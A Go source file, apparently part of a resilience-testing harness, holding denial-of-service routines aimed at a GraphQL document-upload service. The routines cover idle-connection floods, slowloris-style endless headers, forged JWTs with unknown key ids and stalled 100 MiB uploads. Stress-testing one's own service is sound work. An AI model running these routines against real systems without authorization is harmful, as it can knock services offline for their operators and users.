package attack

import (
	"context"
	"encoding/base64"
	"fmt"
	"io"
	"strings"
	"time"
)

// idleConnections opens a thousand connections and says nothing.
func idleConnections(ctx context.Context, p *party) {
	p.each(ctx, 1000, func(i int) {
		conn, err := p.plain(ctx, i)
		if err != nil {
			p.cut(ctx)
			return
		}
		defer conn.Close()
		context.AfterFunc(ctx, func() { _ = conn.Close() })
		var one [1]byte
		if _, err := conn.Read(one[:]); err != nil {
			p.cut(ctx)
		}
	})
}

// stalled has so many connections send something, as bytes of TCP, and wait until they are ended.
func (p *party) stalled(ctx context.Context, connections int, text []byte) {
	p.each(ctx, connections, func(i int) {
		conn, err := p.plain(ctx, i)
		if err != nil {
			p.cut(ctx)
			return
		}
		defer conn.Close()
		context.AfterFunc(ctx, func() { _ = conn.Close() })
		if _, err := conn.Write(text); err == nil {
			_, _ = io.Copy(io.Discard, conn)
		}
		p.cut(ctx)
	})
}

// endlessHeaders send as much of a header as the server reads, in lines of a few bytes.
func endlessHeaders(ctx context.Context, p *party) {
	text := []byte("GET /graphql HTTP/1.1\r\nHost: " + p.host + "\r\n")
	for n := 0; len(text) < 31<<10; n++ {
		text = fmt.Appendf(text, "%x:\n", n)
	}
	if p.tls == nil {
		p.stalled(ctx, 1000, text)
		return
	}
	p.each(ctx, 1000, func(i int) {
		conn, err := p.dial(ctx, i)
		if err != nil {
			p.cut(ctx)
			return
		}
		defer conn.Close()
		if _, err := conn.Write(text); err == nil {
			_, _ = io.Copy(io.Discard, conn)
		}
		p.cut(ctx)
	})
}

// unknownKeys sends tokens that nobody signed, each of a key of another name.
func unknownKeys(ctx context.Context, p *party) {
	part := base64.RawURLEncoding.EncodeToString
	p.crowd(ctx, 8, func(client, n int) []byte {
		head := fmt.Sprintf(`{"alg":"EdDSA","kid":"%d-%d"}`, client, n)
		token := part([]byte(head)) + "." + part([]byte(`{"iss":"x","sub":"x"}`)) + "." + part(make([]byte, 64))
		return p.request(token, "", operation("{ __typename }", nil))
	})
}

const announce = `mutation($n: String!, $h: String!) { iniciarCarga(input: {titulo: $n, tipoDocumento: DIPLOMA, nombreArchivo: $n, tipoContenido: "application/pdf", tamanoBytes: 104857600, hashDocumento: $h}) { carga { metodo url encabezados { nombre valor } } errores { ... on ErrorDeUsuario { codigo } } } }`

type announced struct {
	IniciarCarga struct {
		Carga *struct {
			Metodo, URL string
			Encabezados []struct{ Nombre, Valor string }
		}
		Errores []struct{ Codigo string }
	}
}

// stalledUploads announces files of 100 MiB, and sends the first MiB of 200 of them.
func stalledUploads(ctx context.Context, p *party) {
	p.each(ctx, 200, func(i int) {
		var a announced
		since := time.Now()
		body := operation(announce, map[string]any{"n": fmt.Sprintf("ataque %d.pdf", i), "h": fmt.Sprintf("%064x", time.Now().UnixNano())})
		if p.ask(ctx, p.citizen(i).Token, body, &a) != nil {
			return
		}
		if a.IniciarCarga.Carga == nil {
			for _, e := range a.IniciarCarga.Errores {
				p.tally.refuse(e.Codigo, since)
			}
			return
		}
		p.upload(ctx, i, a)
	})
}

func (p *party) upload(ctx context.Context, i int, a announced) {
	since := time.Now()
	conn, err := p.dial(ctx, i)
	if err != nil {
		p.cut(ctx)
		return
	}
	defer conn.Close()
	c := a.IniciarCarga.Carga
	_, rest, _ := strings.Cut(c.URL, "://")
	_, path, _ := strings.Cut(rest, "/")
	var head strings.Builder
	fmt.Fprintf(&head, "%s /%s HTTP/1.1\r\nHost: %s\r\nContent-Length: 104857600\r\n", c.Metodo, path, p.host)
	for _, h := range c.Encabezados {
		if !strings.EqualFold(h.Nombre, "Content-Length") {
			fmt.Fprintf(&head, "%s: %s\r\n", h.Nombre, h.Valor)
		}
	}
	go func() {
		_, _ = fmt.Fprintf(conn, "%s\r\n%s", head.String(), strings.Repeat("x", mib)) // a failed write is seen by the reader
	}()
	p.watch(ctx, conn, since)
}
